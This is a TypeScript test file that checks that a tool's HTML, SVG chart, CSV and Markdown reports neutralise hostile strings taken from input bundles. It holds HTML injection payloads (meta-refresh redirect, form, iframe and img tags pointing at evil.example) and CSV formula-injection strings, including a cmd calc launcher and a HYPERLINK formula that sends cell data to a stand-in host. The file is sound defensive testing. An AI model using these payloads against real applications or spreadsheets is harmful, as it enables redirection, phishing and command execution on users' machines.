// Issue 14 "Hostile input", the reproductions: a bundle's strings must come out of every report
// format as text. HTML and the charts' SVG are parsed with a real HTML parser (parse5), so a
// string that opens an element or an attribute shows up as one; CSV cells that a spreadsheet would
// run as a formula are neutralised; Markdown shows HTML as text.
import Papa from 'papaparse';
import { parse, parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { describe, expect, it } from 'vitest';
import type { Run } from '../api/types.js';
import type { Roofline } from '../bench/roofline.js';
import { renderRooflineChart } from '../charts/roofline-chart.js';
import { buildReport } from './report.js';
import { renderCsv } from './render-csv.js';
import { renderHtml } from './render-html.js';
import { renderMarkdown } from './render-markdown.js';
import { testContext, testRuns } from './test-runs.js';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/** Every element under `root`, depth first. */
function elements(root: Node): Element[] {
  const out: Element[] = [];
  const walk = (n: Node) => {
    if ('tagName' in n) out.push(n);
    if ('childNodes' in n) n.childNodes.forEach(walk);
    if ('content' in n && n.content) walk(n.content as Node);
  };
  walk(root);
  return out;
}

const attr = (e: Element, name: string) => e.attrs.find((a) => a.name === name)?.value;

const META_REFRESH = 'bandwidth"><meta http-equiv="refresh" content="2;url=https://evil.example/"><x y="';
const PAYLOAD =
  '"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><a href="https://evil.example/">x</a>' +
  '<iframe src="https://evil.example/"></iframe><img src="https://evil.example/x.png"></form><x y="';

/** A bench run whose roofline has a ceiling of the hostile kind, and hostile text everywhere else in it. */
function hostileBenchRun(): Run {
  const run = testRuns().bench;
  const result = structuredClone(run.result) as { roofline: { ceilings: Array<Record<string, unknown>> } };
  const ceilings = result.roofline.ceilings;
  ceilings.push({ ...ceilings[ceilings.length - 1]!, kind: META_REFRESH });
  ceilings.push({ ...ceilings[0]!, source: `measured${PAYLOAD}`, how: PAYLOAD, name: `fp32${PAYLOAD}` });
  return { ...run, result, tags: [`=cmd|'/C calc'!A0`, PAYLOAD], note: PAYLOAD };
}

/** What the hostile strings could add: live elements that load, navigate or submit. */
function assertNoInjectedElements(els: Element[], allowedMeta: number) {
  const tags = els.map((e) => e.tagName);
  for (const t of ['form', 'iframe', 'img', 'a', 'x', 'script', 'object', 'embed', 'link', 'base']) expect(tags, `<${t}> in the output`).not.toContain(t);
  expect(tags.filter((t) => t === 'meta')).toHaveLength(allowedMeta);
  expect(els.filter((e) => attr(e, 'http-equiv')?.toLowerCase() === 'refresh')).toEqual([]);
  expect(els.filter((e) => e.attrs.some((a) => /^(href|src|action|formaction)$/.test(a.name) || a.name.startsWith('on')))).toEqual([]);
}

describe('hostile strings from a bundle', () => {
  it("the issue's roofline ceiling kind cannot inject a <meta refresh> into the roofline chart", () => {
    const roofline = structuredClone((testRuns().bench.result as { roofline: Roofline }).roofline);
    roofline.ceilings.push({ ...roofline.ceilings[roofline.ceilings.length - 1]!, kind: META_REFRESH as 'bandwidth' });
    const els = elements(parseFragment(String(renderRooflineChart(roofline, { width: 720 }))));
    assertNoInjectedElements(els, 0);
  });

  it('hostile ceiling kind, source, name and how cannot inject <meta refresh>, <form>, <a>, <iframe> or <img> into the chart SVG', () => {
    const roofline = (hostileBenchRun().result as { roofline: Roofline }).roofline;
    const svg = String(renderRooflineChart(roofline, { width: 720 }));
    assertNoInjectedElements(elements(parseFragment(svg)), 0);
  });

  it('…nor into the HTML report (the report keeps its own three <meta>: charset, CSP, viewport)', () => {
    const html = renderHtml(buildReport([hostileBenchRun(), testRuns().bench2], testContext()));
    const els = elements(parse(html));
    assertNoInjectedElements(els, 3);
    // The hostile text is still there, as text.
    expect(html).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
  });

  it('CSV: a cell a spreadsheet would run as a formula gets a leading quote; numbers, negative ones too, stay numbers', () => {
    const runs = testRuns();
    const profile = structuredClone(runs.profile) as Run & { result: { model: { producer: string } } };
    profile.result.model.producer = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const bench = { ...runs.bench, tags: [`=cmd|'/C calc'!A0`], note: '@SUM(1+1)*cmd|\' /C calc\'!A0', params: { a: '+1+2', b: '-2+3', c: '\tTAB', d: '\rCR', e: -1.5, f: '-1.5' } };
    const csv = renderCsv(buildReport([bench, profile], testContext()));
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    const value = (section: string, key: string) => rows.find((r) => r.section === section && r.key === key)?.value;
    expect(value('header', 'tags')).toBe(`'=cmd|'/C calc'!A0`);
    expect(value('header', 'note')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(value('model', 'producer')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(value('settings', 'a')).toBe(`'+1+2`);
    expect(value('settings', 'b')).toBe(`'-2+3`);
    expect(value('settings', 'c')).toBe(`'\tTAB`);
    expect(value('settings', 'd')).toBe(`'\rCR`);
    expect(value('settings', 'e')).toBe('-1.5');
    // A string that is a plain decimal number is no formula: it stays as it is.
    expect(value('settings', 'f')).toBe('-1.5');
    // No line of the file starts a cell with a formula character outside quotes.
    for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+@\t\r-](?!\d)/);
    // And the neutralised cells are quoted, as OWASP's guidance asks.
    expect(csv).toContain(`"'=cmd|'/C calc'!A0"`);
  });

  it('Markdown: HTML in the data is shown as text, never passed through', () => {
    const md = renderMarkdown(buildReport([hostileBenchRun()], testContext()));
    expect(md).not.toMatch(/<(meta|form|a|iframe|img|x)\b/i);
    expect(md).toContain('&lt;meta http-equiv="refresh"');
  });
});
